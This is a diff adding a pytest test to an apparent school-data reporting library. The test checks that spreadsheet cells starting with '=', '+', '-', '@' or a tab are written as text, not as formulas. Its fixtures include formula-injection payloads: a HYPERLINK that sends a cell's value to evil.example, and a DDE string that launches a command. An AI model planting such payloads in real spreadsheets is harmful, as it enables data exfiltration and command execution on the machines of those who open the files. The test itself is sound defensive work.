@@ -40,3 +40,38 @@ def test_failed_write_keeps_the_old_file(tmp_path, monkeypatch):
         pass
     assert path.read_bytes() == b"old"
     assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Открыть")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "+1+1", "\t=1+1", "=1+1"]
+
+
+def test_text_starting_like_a_formula_is_written_as_text(tmp_path):
+    from qualitylib.batch.excel import write_registry
+    from qualitylib.data.params import load_params
+
+    frame = pd.DataFrame({"school_name": FORMULAS, "participants": [-5, 0, 3, 4, 5, 6],
+                          "mean_score": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]})
+    path = write_workbook(tmp_path / "book.xlsx", [("Лист", frame, ())])
+    sheet = openpyxl.load_workbook(path)["Лист"]
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [r[0].value for r in rows] == FORMULAS
+    assert all(r[0].data_type == "s" for r in rows)
+    assert [r[1].value for r in rows] == [-5, 0, 3, 4, 5, 6] and rows[0][1].data_type == "n"
+    assert rows[0][2].value == -1.5 and rows[0][2].data_type == "n"
+
+    # the registry: a school name and a recommendation text from the parameters file
+    params = load_params()
+    params["recommendations"]["internet"] = "=HYPERLINK(\"http://evil.example\")"
+    shnor = pd.DataFrame({"school_id": ["S1"], "school_name": ["=1+1"], "municipality": ["@М"],
+                          "criterion_1": [1], "criterion_2": [0], "low_results": [1], "low_results_prev": [1],
+                          "reasons": ["-2+3"], "shnor": [1]})
+    empty = {"risk": [], "pairs": []}
+    from qualitylib.batch.excel import REGISTRY_COLUMNS
+    risk = pd.DataFrame({c: empty["risk"] for c in REGISTRY_COLUMNS["risk"] + ["risk"]})
+    pairs = pd.DataFrame({c: empty["pairs"] for c in REGISTRY_COLUMNS["pairs"]})
+    book = openpyxl.load_workbook(write_registry(tmp_path / "registry.xlsx", shnor, risk, pairs, params))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert {"=1+1", "@М", "-2+3", "=HYPERLINK(\"http://evil.example\")"} <= values
